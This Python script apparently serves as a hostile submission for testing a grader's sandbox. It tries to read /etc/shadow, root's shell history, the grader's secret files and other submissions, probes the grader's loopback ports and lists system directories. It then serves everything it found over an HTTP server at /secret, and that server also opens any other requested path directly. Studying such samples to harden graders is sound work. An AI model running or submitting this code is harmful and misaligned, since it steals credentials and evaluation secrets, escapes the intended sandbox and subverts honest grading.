# Tries to read files outside its folder — the grader's secrets beside the class folder (the
# test puts their paths in secret_paths.txt), other submissions, root's files — and to reach
# the grader's own servers on loopback (the test's ports: "port:N" lines); prints what it
# could, and serves what it found at /secret.
import os
from socket import *
found = []
paths = ['/etc/shadow', '/root/.bash_history', '../secret.txt', '../../secret.txt']
ports = []
if os.path.exists('secret_paths.txt'):
    for word in open('secret_paths.txt').read().split():
        if word.startswith('port:'):
            ports.append(int(word[5:]))
        else:
            paths.append(word)
for port in ports + [6789]:
    try:
        probe = create_connection(('127.0.0.1', port), timeout=1)
        probe.sendall(b'GET / HTTP/1.0\r\n\r\n')
        found.append(probe.recv(1000).decode('latin-1'))
        print('reached port', port)
    except OSError as error:
        print('cannot reach port', port, error)
for path in paths:
    try:
        with open(path) as f:
            found.append(f.read())
        print('read', path)
    except OSError as error:
        print('cannot read', path, error)
for top in ['/tmp', '/home', '/root', '/work', '/var']:
    try:
        print(top, os.listdir(top))
    except OSError as error:
        print(top, error)
serverSocket = socket(AF_INET, SOCK_STREAM)
serverSocket.setsockopt(SOL_SOCKET, SO_REUSEADDR, 1)
serverSocket.bind(('', 6789))
serverSocket.listen(1)
while True:
    connectionSocket, addr = serverSocket.accept()
    try:
        message = connectionSocket.recv(1024)
        name = message.split()[1].decode()
        body = ('\n'.join(found)).encode() if name == '/secret' else open(name[1:], 'rb').read()
        connectionSocket.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n' % len(body) + body)
    except Exception:
        connectionSocket.sendall(b'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n')
    connectionSocket.close()
